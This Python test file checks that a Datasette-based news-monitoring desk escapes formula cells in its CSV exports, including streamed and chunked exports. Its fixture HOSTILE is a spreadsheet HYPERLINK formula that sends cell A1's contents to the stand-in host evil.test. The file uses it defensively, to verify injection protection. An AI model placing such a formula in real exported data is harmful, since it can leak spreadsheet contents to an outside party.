"""The desk's CSV exports turn what a spreadsheet would run as a formula into text (a story's title
comes from the web), in tables, rows, queries and streamed exports; everything else is Datasette's."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from monitor.spreadsheet import complete_records, spreadsheet_csv, spreadsheet_text
from tests.test_triage import login, make_desk, run

HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Cliquez")'


def test_formula_cells_become_text_and_the_rest_is_left_as_written() -> None:
    text = 'id,title,score\r\ns1,"=1+1, puis ""x""",-2.5\r\ns2,"@SUM(A1)\nsuite",+3\r\ns3,- liste,.5\r\n'
    assert list(csv.reader(io.StringIO(spreadsheet_csv(text), newline=""))) == [
        ["id", "title", "score"],
        ["s1", '\'=1+1, puis "x"', "-2.5"],
        ["s2", "'@SUM(A1)\nsuite", "+3"],
        ["s3", "'- liste", ".5"],
    ]
    plain = 'id,title\r\ns1,"Traite : un réseau, démantelé"\r\n'
    assert spreadsheet_csv(plain) is plain
    assert spreadsheet_csv("a,\t=1\r\n") == "a,'\t=1\r\n"


def test_a_report_cell_keeps_its_numbers_and_loses_its_formulas() -> None:
    assert [spreadsheet_text(v) for v in (-2.5, "+33", "=1+1", "+33 1 23 45", "@x", 7)] == [
        "-2.5",
        "+33",
        "'=1+1",
        "'+33 1 23 45",
        "'@x",
        "7",
    ]


def test_a_record_split_across_chunks_waits_for_its_end() -> None:
    """Datasette writes a record per chunk; one cut inside a quoted cell or inside a character still
    comes out whole and safe."""
    import importlib.util

    path = Path(__file__).parent.parent / "monitor" / "datasette" / "plugins" / "veille_csv.py"
    spec = importlib.util.spec_from_file_location("veille_csv_under_test", path)
    assert spec and spec.loader
    plugin = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(plugin)
    body = plugin.SafeCsv()
    record = 'id,title\r\ns1,"=cliquez, « ici »\r\nsuite"\r\n'.encode()
    cut = record.index("«".encode()) + 1  # inside the two bytes of « and inside the quoted cell
    assert body.feed(record[:cut], final=False) == b""
    assert body.feed(record[cut:], final=True).decode() == 'id,title\r\ns1,"\'=cliquez, « ici »\r\nsuite"\r\n'


def test_a_record_is_complete_only_outside_quotes_at_a_line_end() -> None:
    assert complete_records('s1,"a\r\nb"\r\n') and not complete_records('s1,"a\r\n')
    assert not complete_records("s1,a") and not complete_records("")


def test_every_csv_export_of_the_desk_is_safe_in_a_spreadsheet(tmp_path: Path) -> None:
    datasette, store = make_desk(tmp_path)
    store.db["stories"].insert(
        {"id": "s3", "title": HOSTILE, "summary": "+33 1 23 45 67 89 @contact", "url": "https://e.org/s3",
         "relevant": 1, "score": 7.5, "first_seen": "2026-11-26T08:00:00+00:00", "matched": "[]"}
    )  # fmt: skip

    async def exports() -> dict[str, Any]:
        answers = {}
        for role in ("secretariat", "amicale-du-nid"):
            cookies = await login(datasette, role)
            for path in (
                "/veille/stories.csv",
                "/veille/stories.csv?_dl=1",
                "/veille/stories.csv?_stream=on",
                "/veille/stories.csv?_labels=on&_size=1&_sort_desc=first_seen",
                "/veille/stories/s3.csv",
                "/veille/rechercher.csv?q=cliquez",
                *(["/veille.csv?sql=select+title,+summary+from+stories"] if role == "secretariat" else []),
            ):
                answers[role, path] = await datasette.client.get(path, cookies=cookies)
        return answers

    answers = run(exports())
    for (role, path), answer in answers.items():
        assert answer.status_code == 200, (role, path, answer.text[:300])
        rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
        titles = [row.get("title", row.get("titre")) for row in rows]
        assert f"'{HOSTILE}" in titles, (role, path, titles)
        assert HOSTILE not in titles and not any(t.startswith(("=", "@", "+")) for t in titles)
        summaries = [row.get("summary", row.get("resume")) for row in rows]
        assert "'+33 1 23 45 67 89 @contact" in summaries
    # The other cells are Datasette's, untouched: the safe story and its score as written.
    whole = list(csv.DictReader(io.StringIO(answers["secretariat", "/veille/stories.csv"].text, newline="")))
    assert {(r["id"], r["title"], r["score"]) for r in whole} >= {
        ("s1", "Travail forcé : des saisonniers libérés", "9.0"), ("s3", f"'{HOSTILE}", "7.5"),
    }  # fmt: skip
    assert answers["secretariat", "/veille/stories.csv?_dl=1"].headers["content-type"].startswith("text/csv")
